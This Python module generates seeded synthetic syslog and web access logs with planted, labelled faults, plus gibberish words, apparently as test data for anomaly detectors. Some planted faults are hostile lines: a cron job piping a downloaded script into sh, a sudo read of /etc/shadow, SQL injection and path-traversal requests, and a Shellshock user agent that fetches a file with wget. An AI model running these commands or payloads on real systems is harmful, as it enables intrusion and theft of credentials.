"""Texts with planted faults, made from a seed: logs, and words among which some are gibberish.

    system_log   lines as of syslog: eight programs, 22 messages
    access_log   lines as of a web server, in the combined format
    words        of English, German, French and Spanish, from wordfreq (PyPI), and names of the same
                 languages, from faker (PyPI)

A fault is a line of its own, or a usual one that is changed.
"""

from __future__ import annotations

import string
from collections.abc import Callable
from random import Random

Fault = Callable[[Random, str], str]

USERS = ("anna", "bob", "carla", "dmitri", "eve", "root", "backup", "deploy", "www-data")
HOSTS = ("web1", "web2", "db1", "mail", "build")
MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun")
HEX = "0123456789abcdef"


def address(random: Random) -> str:
    network = random.choice(("10.0.", "10.1.", "192.168."))
    return f"{network}{random.randrange(4)}.{random.randrange(1, 255)}"


def clock(random: Random) -> str:
    return f"{random.randrange(24):02}:{random.randrange(60):02}:{random.randrange(60):02}"


def letters(random: Random, alphabet: str, count: int) -> str:
    return "".join(random.choices(alphabet, k=count))


def system_line(random: Random) -> str:
    """A usual line; common messages are drawn more often than rare ones."""
    user, port = random.choice(USERS), random.randrange(1024, 65536)
    key = letters(random, string.ascii_letters + string.digits + "+/", 43)
    unit = random.choice(("nginx", "cron", "ssh", "postgresql", "logrotate", "apt-daily"))
    device, mail = random.choice(("sda1", "sdb2", "md0")), letters(random, "0123456789ABCDEF", 10)
    seconds = f"{random.randrange(10**6)}.{random.randrange(10**6):06}"
    messages = (
        (30, "sshd", f"Accepted publickey for {user} from {address(random)} port {port} ssh2: "
                     f"ED25519 SHA256:{key}"),
        (20, "sshd", f"Failed password for {user} from {address(random)} port {port} ssh2"),
        (20, "sshd", f"Disconnected from user {user} {address(random)} port {port}"),
        (25, "sshd", f"pam_unix(sshd:session): session opened for user {user} by (uid=0)"),
        (25, "sshd", f"pam_unix(sshd:session): session closed for user {user}"),
        (6, "sshd", f"Invalid user {letters(random, string.ascii_lowercase, 6)} from "
                    f"{address(random)} port {port}"),
        (30, "CRON", f"({user}) CMD (run-parts /etc/cron.{random.choice(('hourly', 'daily'))})"),
        (20, "CRON", f"pam_unix(cron:session): session opened for user {user} by (uid=0)"),
        (20, "systemd", f"Started {unit}.service."),
        (15, "systemd", f"Stopping {unit}.service..."),
        (10, "systemd", f"{unit}.service: Succeeded."),
        (3, "systemd", f"{unit}.service: Main process exited, code=exited, status=1/FAILURE"),
        (12, "kernel", f"[{seconds}] EXT4-fs ({device}): mounted filesystem in ordered data mode"),
        (8, "kernel", f"[{seconds}] eth0: link up, 1000Mbps, full-duplex"),
        (3, "kernel", f"[{seconds}] TCP: request_sock_TCP: Possible SYN flooding on port "
                      f"{random.choice((80, 443))}. Sending cookies."),
        (15, "postfix/smtpd", f"connect from unknown[{address(random)}]"),
        (12, "postfix/qmgr", f"{mail}: from=<{user}@example.org>, "
                             f"size={random.randrange(500, 99999)}, nrcpt=1 (queue active)"),
        (12, "postfix/smtp", f"{mail}: to=<{random.choice(USERS)}@example.com>, "
                             f"relay=mx.example.com[{address(random)}]:25, "
                             f"delay={random.randrange(90) / 10}, status=sent"),
        (10, "dhclient", f"DHCPACK of {address(random)} from {address(random)}"),
        (10, "dhclient", f"bound to {address(random)} -- renewal in {random.randrange(900, 40000)} "
                         "seconds."),
        (10, "sudo", f"{user} : TTY=pts/{random.randrange(6)} ; PWD=/home/{user} ; USER=root ; "
                     f"COMMAND=/usr/bin/systemctl restart {unit}"),
        (8, "ntpd", f"adjusting local clock by {random.randrange(-900, 900) / 1000:.6f}s"),
    )  # fmt: skip
    weights = [weight for weight, _, _ in messages]
    _, program, message = random.choices(messages, weights)[0]
    pid = "" if program == "kernel" else f"[{random.randrange(300, 32768)}]"
    day = random.randrange(1, 29)
    return (
        f"{random.choice(MONTHS)} {day:2} {clock(random)} {random.choice(HOSTS)} "
        f"{program}{pid}: {message}"
    )


PAGES = ("/", "/index.html", "/about", "/login", "/api/v1/items", "/api/v1/users", "/static/app.js")
AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "curl/8.5.0",
)


def access_line(random: Random) -> str:
    """A usual line of a web server's access log."""
    page = random.choice(PAGES)
    if page.startswith("/api"):
        page += f"/{random.randrange(1, 99999)}" if random.random() < 0.6 else ""
        page += f"?page={random.randrange(1, 40)}&sort={random.choice(('name', 'date'))}" * (
            random.random() < 0.3
        )
    elif page.startswith("/static"):
        page = f"/static/{random.choice(('app', 'vendor', 'style'))}.{letters(random, HEX, 8)}" + (
            random.choice((".js", ".css", ".png"))
        )
    method = random.choices(("GET", "POST", "HEAD", "DELETE"), (85, 12, 2, 1))[0]
    status = random.choices((200, 304, 301, 404, 403, 500), (80, 8, 4, 5, 2, 1))[0]
    size = 0 if status == 304 else random.randrange(120, 90000)
    referrer = random.choice(("-", "https://example.org/", f"https://example.org{page}"))
    stamp = f"{random.randrange(1, 29):02}/{random.choice(MONTHS)}/2026:{clock(random)} +0000"
    return (
        f"{address(random)} - {random.choice(('-', '-', '-', 'anna', 'bob'))} [{stamp}] "
        f'"{method} {page} HTTP/1.1" {status} {size} "{referrer}" "{random.choice(AGENTS)}"'
    )


def swapped_fields(random: Random, line: str) -> str:
    """Two words that stand beside each other change places."""
    fields = line.split(" ")
    at = random.choice([n for n in range(len(fields) - 1) if fields[n] != fields[n + 1]])
    fields[at], fields[at + 1] = fields[at + 1], fields[at]
    return " ".join(fields)


def one_wrong_letter(random: Random, line: str) -> str:
    """A letter of a word becomes another one."""
    at = random.choice([n for n, c in enumerate(line) if c.isalpha()])
    other = random.choice([c for c in string.ascii_lowercase if c != line[at].lower()])
    return line[:at] + other + line[at + 1 :]


def cut_off(random: Random, line: str) -> str:
    """The line ends in its middle."""
    return line[: random.randrange(len(line) // 3, 2 * len(line) // 3)]


def two_in_one(random: Random, line: str) -> str:
    """Another writer's line begins before this one has ended."""
    at = random.randrange(len(line) // 3, 2 * len(line) // 3)
    return line[:at] + line[: 2 * len(line) // 3]


def damaged(random: Random, line: str) -> str:
    """Four bytes in a row are noise."""
    at = random.randrange(len(line) - 4)
    noise = letters(random, "".join(map(chr, range(33, 127))), 4)
    return line[:at] + noise + line[at + 4 :]


def no_such_time(random: Random, line: str) -> str:
    """The hour is above 24."""
    at = line.index(":") - 2 if line[0].isalpha() else line.index(":") + 1
    return f"{line[:at]}{random.randrange(30, 100)}{line[at + 2 :]}"


def no_such_address(random: Random, line: str) -> str:
    """A number of an address is above 255; where there is none, one is put at the end."""
    found = [w for w in line.replace("[", " ").replace("]", " ").split() if w.count(".") == 3]
    if not found:
        return f"{line} {address(random).rpartition('.')[0]}.{random.randrange(300, 999)}"
    wrong = f"{found[0].rpartition('.')[0]}.{random.randrange(300, 999)}"
    return line.replace(found[0], wrong)


def new_message(random: Random, line: str) -> str:
    """A program says something that it has not said before."""
    message = random.choice(
        (
            "kernel: BUG: unable to handle page fault for address: ffff" + letters(random, HEX, 12),
            f"sshd[{random.randrange(32768)}]: fatal: buffer_get_string: bad string length 4294967",
            f"CRON[{random.randrange(32768)}]: (root) CMD (curl http://203.0.113.9/x.sh | sh)",
            f"kernel: Out of memory: Killed process {random.randrange(32768)} (postgres)",
            "sudo: www-data : user NOT in sudoers ; COMMAND=/bin/cat /etc/shadow",
        )
    )
    return f"{' '.join(line.split(' ')[: 5 if line[4] == ' ' else 4])} {message}"


def request(change: Callable[[Random], tuple[str, str]]) -> Fault:
    """A fault in what a client asks for, or in how it calls itself."""

    def fault(random: Random, line: str) -> str:
        before, _, rest = line.partition('] "')
        after = rest.partition(' HTTP/1.1"')[2]
        wanted, agent = change(random)
        if agent:
            after = f'{after[: after.rindex(" " + chr(34))]} "{agent}"'
        return f'{before}] "{wanted} HTTP/1.1"{after}'

    fault.__doc__ = change.__doc__
    fault.__name__ = change.__name__
    return fault


@request
def injection(random: Random) -> tuple[str, str]:
    """SQL in a parameter."""
    value = random.choice(("1' OR '1'='1", "1;DROP TABLE users--", "-1 UNION SELECT 1,2,3"))
    return f"GET /api/v1/items?page={value.replace(' ', '%20')}&sort=name", ""


@request
def traversal(random: Random) -> tuple[str, str]:
    """A path that leads out of the site."""
    up = random.choice(("../", "..%2f", "%2e%2e/"))
    return f"GET /static/{up * random.randrange(2, 6)}etc/passwd", ""


@request
def scanner(random: Random) -> tuple[str, str]:
    """A page that is not here, and a client that looks for holes."""
    page = random.choice(
        ("/wp-login.php", "/.env", "/phpmyadmin/", "/cgi-bin/test.cgi", "/.git/config")
    )
    return f"GET {page}", random.choice(("Nikto/2.5.0", "masscan/1.3", "zgrab/0.x", "sqlmap/1.8"))


@request
def shell_in_agent(random: Random) -> tuple[str, str]:
    """A command in place of the client's name."""
    return "GET /", f"() {{ :; }}; /bin/bash -c 'wget {address(random)}/{letters(random, HEX, 4)}'"


@request
def wrong_method(random: Random) -> tuple[str, str]:
    """A method that no client here has."""
    return f"{random.choice(('TRACE', 'PROPFIND', 'GETT', 'get'))} /index.html", ""


def no_such_status(random: Random, line: str) -> str:
    """A status that there is not."""
    before, _, after = line.partition(' HTTP/1.1" ')
    return f'{before} HTTP/1.1" {random.choice((999, 207, 666, 102))}{after[3:]}'


SYSTEM_FAULTS: tuple[Fault, ...] = (
    one_wrong_letter, swapped_fields, cut_off, two_in_one, damaged, no_such_time, no_such_address,
    new_message,
)  # fmt: skip
ACCESS_FAULTS: tuple[Fault, ...] = (
    one_wrong_letter, swapped_fields, cut_off, damaged, injection, traversal, scanner,
    shell_in_agent, wrong_method, no_such_status,
)  # fmt: skip
LOGS = {"system log": (system_line, SYSTEM_FAULTS), "access log": (access_line, ACCESS_FAULTS)}


def usual(kind: str, count: int, seed: int) -> list[str]:
    """Lines of a log without faults."""
    random = Random(f"{kind} {seed}")
    return [LOGS[kind][0](random) for _ in range(count)]


def planted(kind: str, count: int, each: int, seed: int) -> tuple[list[str], list[str]]:
    """Lines of a log, and of each the kind of its fault or nothing: `each` of every kind."""
    random = Random(f"{kind} planted {seed}")
    line, faults = LOGS[kind]
    lines, kinds = [line(random) for _ in range(count)], [""] * count
    places = random.sample(range(count), each * len(faults))
    for n, place in enumerate(places):
        fault = faults[n % len(faults)]
        changed = fault(random, lines[place])
        while changed == lines[place]:
            changed = fault(random, lines[place])
        lines[place], kinds[place] = changed, fault.__name__
    return lines, kinds


LANGUAGES = {"English": "en", "German": "de", "French": "fr", "Spanish": "es"}
LOCALES = {"en": "en_US", "de": "de_DE", "fr": "fr_FR", "es": "es_ES"}
ROWS = ("qwertyuiop", "asdfghjkl", "zxcvbnm")


def words(language: str, count: int) -> list[str]:
    """The commonest words of four or more letters, and names, in an order that says nothing."""
    from faker import Faker
    from wordfreq import top_n_list

    code = LANGUAGES[language]
    common = [w for w in top_n_list(code, 3 * count) if len(w) > 3 and w.isalpha()][:count]
    source = Faker(LOCALES[code]).factories[0]
    names: set[str] = set()
    for provider in source.get_providers():
        for kind in ("first_names", "first_names_male", "first_names_female", "last_names"):
            names.update(getattr(provider, kind, ()))
    found = sorted({*common, *(n for n in names if n.isalpha() and len(n) > 3)})
    Random(f"words {code}").shuffle(found)
    return found


def uniform(random: Random, word: str) -> str:
    """Letters drawn evenly."""
    return letters(random, string.ascii_lowercase, len(word))


def by_frequency(alphabet: str) -> Fault:
    """Letters as often as in the words."""

    def frequent(random: Random, word: str) -> str:
        return letters(random, alphabet, len(word)).lower()

    return frequent


def keyboard(random: Random, word: str) -> str:
    """Keys that are near each other on a keyboard."""
    row, at, typed = random.randrange(3), random.randrange(7), ""
    while len(typed) < len(word):
        row = min(max(row + random.choice((-1, 0, 0, 0, 1)), 0), 2)
        at = min(max(at + random.choice((-1, 1, 2)), 0), len(ROWS[row]) - 1)
        typed += ROWS[row][at]
    return typed


def shuffled(random: Random, word: str) -> str:
    """The letters of a word, in another order."""
    return "".join(random.sample(word.lower(), len(word)))


def gibberish(
    known: list[str], among: list[str], each: int, seed: int
) -> tuple[list[str], list[str]]:
    """Words, and after them gibberish as long as they are; of each its kind, or nothing."""
    random = Random(f"gibberish {seed}")
    kinds = {
        "uniform": uniform,
        "frequent": by_frequency("".join(known)),
        "keyboard": keyboard,
        "shuffled": shuffled,
    }
    items, of = list(among), [""] * len(among)
    taken = {*known, *among}
    for kind, make in kinds.items():
        while of.count(kind) < each:
            made = make(random, random.choice(among))
            if made not in taken:
                taken.add(made)
                items.append(made)
                of.append(kind)
    return items, of
